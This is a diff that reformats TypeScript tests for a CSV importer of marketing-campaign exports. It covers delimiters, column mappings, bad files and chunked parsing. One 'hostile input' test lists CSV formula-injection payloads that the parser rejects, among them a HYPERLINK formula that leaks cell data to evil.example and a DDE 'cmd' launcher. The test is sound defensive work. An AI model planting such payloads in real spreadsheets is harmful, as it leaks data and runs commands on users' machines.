@@ -54,13 +54,17 @@ describe('a generic CSV through a mapping', () => {
   it('reads semicolons, decimal commas, no-break-space grouping and dotted dates', () => {
     const file = ok(readExport(utf8(FINNISH), { mapping: FINNISH_MAPPING }))
     expect(file).toMatchObject({ source: 'generic', delimiter: ';', decimalSeparator: ',', headerRow: 2 })
-    expect(file.rows.map((row) => [row.row, row.period?.from, row.campaignName, row.metrics, row.custom])).toEqual([
+    expect(
+      file.rows.map((row) => [row.row, row.period?.from, row.campaignName, row.metrics, row.custom]),
+    ).toEqual([
       [3, '2026-01-30', 'Talvi', { spendMinor: 123456, impressions: 12000, clicks: 120 }, { subscribers: 5 }],
       [4, '2026-01-31', 'Talvi', { spendMinor: 10000, impressions: 1000, clicks: null }, { subscribers: 6 }],
       [5, '2026-02-01', 'Talvi', { spendMinor: 250, impressions: 1000, clicks: 10 }, { subscribers: 7 }],
       [6, '2026-02-01', 'Kevät', { spendMinor: 50, impressions: null, clicks: 1 }, { subscribers: null }],
     ])
-    expect(file.totals).toMatchObject([{ row: 7, label: 'Yhteensä', metrics: { spendMinor: 133756, impressions: 14000, clicks: 131 } }])
+    expect(file.totals).toMatchObject([
+      { row: 7, label: 'Yhteensä', metrics: { spendMinor: 133756, impressions: 14000, clicks: 131 } },
+    ])
     expect(file.warnings).toEqual([])
   })
 
@@ -71,22 +75,37 @@ describe('a generic CSV through a mapping', () => {
       currency: 'EUR',
       customAggregation: { subscribers: 'last' },
     })
-    expect(plan.months.map((month) => [month.month, month.campaignName, month.input.spendMinor, month.input.clicks, month.input.custom])).toEqual([
+    expect(
+      plan.months.map((month) => [
+        month.month,
+        month.campaignName,
+        month.input.spendMinor,
+        month.input.clicks,
+        month.input.custom,
+      ]),
+    ).toEqual([
       ['2026-01', null, 133456, 120, { subscribers: 6 }],
       ['2026-01', 'Talvi', 133456, 120, { subscribers: 6 }],
       ['2026-02', null, 300, 11, { subscribers: 7 }],
       ['2026-02', 'Kevät', 50, 1, {}],
       ['2026-02', 'Talvi', 250, 10, { subscribers: 7 }],
     ])
-    expect(plan.months.every((month) => month.input.channel === 'tiktok' && month.input.source === 'import')).toBe(true)
+    expect(
+      plan.months.every((month) => month.input.channel === 'tiktok' && month.input.source === 'import'),
+    ).toBe(true)
   })
 
   it('is plain data that survives JSON and matches a reordered file by header name', () => {
     const saved = importMappingSchema.parse(JSON.parse(JSON.stringify(FINNISH_MAPPING)))
     expect(saved).toEqual(FINNISH_MAPPING)
-    const reordered = 'Klikkaukset\tKulut\tKAMPANJA\tpäivä\tNäytöt\tTilaajat\n7\t1,00\tTalvi\t02.03.2026\t70\t1\n'
+    const reordered =
+      'Klikkaukset\tKulut\tKAMPANJA\tpäivä\tNäytöt\tTilaajat\n7\t1,00\tTalvi\t02.03.2026\t70\t1\n'
     const file = ok(readExport(utf8(reordered), { mapping: saved }))
-    expect(file.rows[0]).toMatchObject({ campaignName: 'Talvi', period: { from: '2026-03-02' }, metrics: { spendMinor: 100, clicks: 7 } })
+    expect(file.rows[0]).toMatchObject({
+      campaignName: 'Talvi',
+      period: { from: '2026-03-02' },
+      metrics: { spendMinor: 100, clicks: 7 },
+    })
   })
 
   it('names the mapped column a file lacks, and asks for a metric and a channel', () => {
@@ -94,12 +113,19 @@ describe('a generic CSV through a mapping', () => {
       ok: false,
       error: { code: 'mapping-column-missing', header: 'Näytöt' },
     })
-    const noMetric: ImportMapping = { ...emptyMapping(), channel: 'seo', columns: [{ header: 'Day', role: { kind: 'date' } }] }
+    const noMetric: ImportMapping = {
+      ...emptyMapping(),
+      channel: 'seo',
+      columns: [{ header: 'Day', role: { kind: 'date' } }],
+    }
     expect(readExport(utf8('Day,Visits\n2026-01-01,5\n'), { mapping: noMetric })).toEqual({
       ok: false,
       error: { code: 'mapping-incomplete', missing: 'metric' },
     })
-    const noChannel: ImportMapping = { ...emptyMapping(), columns: [{ header: 'Visits', role: { kind: 'metric', metric: 'clicks' } }] }
+    const noChannel: ImportMapping = {
+      ...emptyMapping(),
+      columns: [{ header: 'Visits', role: { kind: 'metric', metric: 'clicks' } }],
+    }
     expect(readExport(utf8('Day,Visits\n2026-01-01,5\n'), { mapping: noChannel })).toEqual({
       ok: false,
       error: { code: 'mapping-incomplete', missing: 'channel' },
@@ -117,7 +143,14 @@ describe('a generic CSV through a mapping', () => {
       channelValues: { newsletter: 'email' },
       currency: 'EUR',
     }
-    const file = ok(readExport(utf8('Month,Source,Spend\nJan 2026,Facebook,1\nJan 2026,Google Ads,2\nJan 2026,Newsletter,3\nJan 2026,Fax,4\n'), { mapping }))
+    const file = ok(
+      readExport(
+        utf8(
+          'Month,Source,Spend\nJan 2026,Facebook,1\nJan 2026,Google Ads,2\nJan 2026,Newsletter,3\nJan 2026,Fax,4\n',
+        ),
+        { mapping },
+      ),
+    )
     expect(file.rows.map((row) => row.channel)).toEqual(['meta', 'google-ads', 'email'])
     expect(file.rejected).toEqual([{ code: 'unknown-channel', row: 5, text: 'Fax' }])
   })
@@ -145,7 +178,8 @@ describe('a generic CSV through a mapping', () => {
   })
 
   it('honours an Excel sep= line and skips comment and blank rows', () => {
-    const text = 'sep=;\n# exported by hand\nDay;Campaign;Cost;Impr.;Currency code\n\n2026-01-05;A;1,5;10;EUR\n# note\n'
+    const text =
+      'sep=;\n# exported by hand\nDay;Campaign;Cost;Impr.;Currency code\n\n2026-01-05;A;1,5;10;EUR\n# note\n'
     const file = ok(readExport(utf8(text)))
     expect(file).toMatchObject({ source: 'google-ads', delimiter: ';', headerRow: 3 })
     expect(file.rows).toHaveLength(1)
@@ -169,13 +203,20 @@ describe('hostile input', () => {
   it('rejects formula cells in names and neutralises names that only start like one', () => {
     const file = ok(readExport(utf8(hostile)))
     expect(file.rejected).toEqual([
-      { code: 'formula-injection', row: 3, column: 'Campaign', text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' },
+      {
+        code: 'formula-injection',
+        row: 3,
+        column: 'Campaign',
+        text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      },
       { code: 'formula-injection', row: 4, column: 'Campaign', text: '+SUM(1+1)' },
       { code: 'formula-injection', row: 5, column: 'Campaign', text: "-2+3+cmd|' /C calc'!A0" },
       { code: 'formula-injection', row: 6, column: 'Campaign', text: '@SUM(A1:A9)' },
       { code: 'formula-injection', row: 8, column: 'Campaign', text: '=1+1' },
     ])
-    expect(file.warnings).toEqual([{ code: 'formula-neutralised', row: 7, column: 'Campaign', text: '-20% Sale' }])
+    expect(file.warnings).toEqual([
+      { code: 'formula-neutralised', row: 7, column: 'Campaign', text: '-20% Sale' },
+    ])
     expect(file.rows.map((row) => row.campaignName)).toEqual(['Brand', "'-20% Sale"])
   })
 
@@ -188,8 +229,14 @@ describe('hostile input', () => {
   })
 
   it('rejects absurdly long names instead of storing them', () => {
-    const file = ok(readExport(utf8(`${header}\n${'x'.repeat(5000)},2026-01-05,EUR,1.00,1,1\nOk,2026-01-05,EUR,1.00,1,1\n`)))
-    expect(file.rejected).toEqual([{ code: 'text-too-long', row: 2, column: 'Campaign', length: 5000, max: 499 }])
+    const file = ok(
+      readExport(
+        utf8(`${header}\n${'x'.repeat(5000)},2026-01-05,EUR,1.00,1,1\nOk,2026-01-05,EUR,1.00,1,1\n`),
+      ),
+    )
+    expect(file.rejected).toEqual([
+      { code: 'text-too-long', row: 2, column: 'Campaign', length: 5000, max: 499 },
+    ])
     expect(file.rows).toHaveLength(1)
   })
 
@@ -223,9 +270,21 @@ describe('bad files', () => {
   it.each([
     ['an empty file', '', { code: 'no-data', reason: 'empty-file', note: null }],
     ['only whitespace', ' \r\n\t\n', { code: 'no-data', reason: 'empty-file', note: null }],
-    ['a header and nothing else', 'Campaign,Day,Currency code,Cost,Impr.\n', { code: 'no-data', reason: 'no-rows', note: null }],
-    ['only totals', 'Campaign,Currency code,Cost,Impr.\nTotal: Campaigns,EUR,0.00,0\n', { code: 'no-data', reason: 'no-rows', note: null }],
-    ['only title lines', 'Ad Performance Report (in UTC)\n"Report Start: August 18, 2019, 12:00 AM"\n\n', { code: 'no-data', reason: 'preamble-only', note: null }],
+    [
+      'a header and nothing else',
+      'Campaign,Day,Currency code,Cost,Impr.\n',
+      { code: 'no-data', reason: 'no-rows', note: null },
+    ],
+    [
+      'only totals',
+      'Campaign,Currency code,Cost,Impr.\nTotal: Campaigns,EUR,0.00,0\n',
+      { code: 'no-data', reason: 'no-rows', note: null },
+    ],
+    [
+      'only title lines',
+      'Ad Performance Report (in UTC)\n"Report Start: August 18, 2019, 12:00 AM"\n\n',
+      { code: 'no-data', reason: 'preamble-only', note: null },
+    ],
     ['a table nobody knows', 'foo,bar\n1,2\n', { code: 'header-not-found' }],
   ])('%s: says so', (_name, text, error) => {
     expect(readExport(utf8(text))).toEqual({ ok: false, error })
@@ -246,7 +305,9 @@ describe('bad files', () => {
       ok: false,
       error: { code: 'binary-file', kind: 'xlsx-or-zip' },
     })
-    const latin1 = new Uint8Array(Array.from('Campanha,Custo\nRelat\u00f3rio,1\n', (char) => char.charCodeAt(0)))
+    const latin1 = new Uint8Array(
+      Array.from('Campanha,Custo\nRelat\u00f3rio,1\n', (char) => char.charCodeAt(0)),
+    )
     expect(readExport(latin1)).toMatchObject({ ok: false, error: { code: 'undecodable', encoding: 'utf-8' } })
   })
 
@@ -269,9 +330,9 @@ describe('chunked reading', () => {
       fc.string({ maxLength: 6 }).map((text) => `"${text.replace(/"/g, '""')}"`),
       fc.constantFrom('"a\nb"', '"x,y"', '""', '"q""q"'),
     )
-    const csv = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 12 }).map((rows) =>
-      rows.map((row) => row.join(',')).join('\n'),
-    )
+    const csv = fc
+      .array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 12 })
+      .map((rows) => rows.map((row) => row.join(',')).join('\n'))
     fc.assert(
       fc.property(csv, fc.integer({ min: 1, max: 40 }), (text, chunk) => {
         const body = prepareText(text).body
@@ -294,7 +355,10 @@ describe('chunked reading', () => {
     lines.push('Total: Campaigns, --,EUR,"123,456,000.00","100,000,000","1,000,000","100,000"')
     const bytes = utf8(lines.join('\n'))
     const progress: Progress[] = []
-    const result = await readExportInChunks(bytes, { onProgress: (step) => progress.push(step), chunkChars: 64 * 1024 })
+    const result = await readExportInChunks(bytes, {
+      onProgress: (step) => progress.push(step),
+      chunkChars: 64 * 1024,
+    })
     const file = ok(result as ReadResult)
     expect(file.rows).toHaveLength(100_000)
     expect(file.totals).toHaveLength(1)
@@ -303,13 +367,21 @@ describe('chunked reading', () => {
     const parse = progress.filter((step) => step.phase === 'parse')
     expect(parse.length).toBeGreaterThan(10)
     expect(parse.every((step, index) => index === 0 || step.done >= (parse[index - 1]?.done ?? 0))).toBe(true)
-    expect(progress.filter((step) => step.phase === 'rows').at(-1)).toEqual({ phase: 'rows', done: 100_000, total: 100_001 })
+    expect(progress.filter((step) => step.phase === 'rows').at(-1)).toEqual({
+      phase: 'rows',
+      done: 100_000,
+      total: 100_001,
+    })
 
     const plan = planImport(file.rows, [], { clientId: CLIENT, currency: 'EUR' })
     const totals = plan.months.filter((month) => month.campaignName === null)
     const first = totals[0]
     // January 2024: 31 days × 4 campaigns × €1,234.56.
-    expect(first?.input).toMatchObject({ month: '2024-01', spendMinor: 31 * 4 * 123_456, clicks: 31 * 4 * 10 })
+    expect(first?.input).toMatchObject({
+      month: '2024-01',
+      spendMinor: 31 * 4 * 123_456,
+      clicks: 31 * 4 * 10,
+    })
     expect(totals.reduce((sum, month) => sum + (month.input.spendMinor ?? 0), 0)).toBe(100_000 * 123_456)
     // A guard against hanging on a machine shared with other jobs, not a speed requirement.
   }, 300_000)
